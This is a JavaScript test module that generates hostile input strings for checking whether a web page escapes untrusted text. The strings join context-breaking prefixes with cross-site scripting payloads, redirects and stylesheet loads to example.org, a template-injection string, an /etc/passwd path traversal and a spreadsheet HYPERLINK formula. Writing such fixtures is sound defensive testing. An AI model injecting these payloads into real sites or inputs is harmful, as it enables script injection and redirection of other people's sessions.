// hostile.mjs - texts that try to leave the place they are put in: each way out of a context, with each thing that would run, load or
// disturb. Pure.
const WAYS_OUT = [
  '',
  '"',
  "'",
  '">',
  "'>",
  '</title>',
  '</style>',
  '</script>',
  '--><!-->',
  ']]>',
  '</svg>',
  '</td></tr></table>',
  '&quot;&gt;',
];
const PAYLOADS = [
  '<script>pwned()</script>',
  '<img src=x onerror=pwned()>',
  '<svg onload=pwned()>',
  '<iframe srcdoc="<script>parent.pwned()</script>"></iframe>',
  '<a href="javascript:pwned()">x</a>',
  ' onmouseover=pwned() autofocus onfocus=pwned() x=',
  '<base href=//example.org/>',
  '<meta http-equiv=refresh content="0;url=//example.org/">',
  '<link rel=stylesheet href=//example.org/x.css>',
  '<style>@import "//example.org/x.css";*{display:none}</style>',
  '<form action=//example.org/><input autofocus onfocus=pwned()>',
  '<object data="data:text/html,<script>pwned()</script>"></object>',
  '<details open ontoggle=pwned()>x</details>',
  '<math><mtext><script>pwned()</script>',
  '{"a":"</script><script>pwned()</script>"}',
];
const OTHERS = [
  '\u202egnp.exe',
  '\u001b[31mred\u001b[0m',
  '\ufeff\u2028\u2029\u200b',
  'a\nb\tc\rd\u007f\u009b',
  'x'.repeat(3000),
  '\u0301'.repeat(400),
  'javascript:pwned()',
  '%s%n%x${pwned()}{{constructor.constructor("pwned()")()}}',
  '../../../../etc/passwd',
  '=HYPERLINK("//example.org","x")',
  '\ud83d\udca9'.repeat(300),
  '   ',
];

export const HOSTILE = [...WAYS_OUT.flatMap((out) => PAYLOADS.map((x) => out + x)), ...OTHERS];

// Words of the schema: a page that knows one shows more than a page that does not, so both are tried.
const WORDS = new Set([
  'level',
  'state',
  'issue',
  'kind',
  'phase',
  'severity',
  'class',
  'pattern',
  'role',
  'time_of',
  'traffic',
  'finding',
]);

/** The same value with each text replaced by the next one. */
export function replaceTexts(value, next, words, key = '') {
  if (typeof value === 'string') return words && WORDS.has(key) ? value : next();
  if (Array.isArray(value)) return value.map((x) => replaceTexts(x, next, words, key));
  if (value === null || typeof value !== 'object') return value;
  return Object.fromEntries(Object.entries(value).map(([k, v]) => [k, replaceTexts(v, next, words, k)]));
}
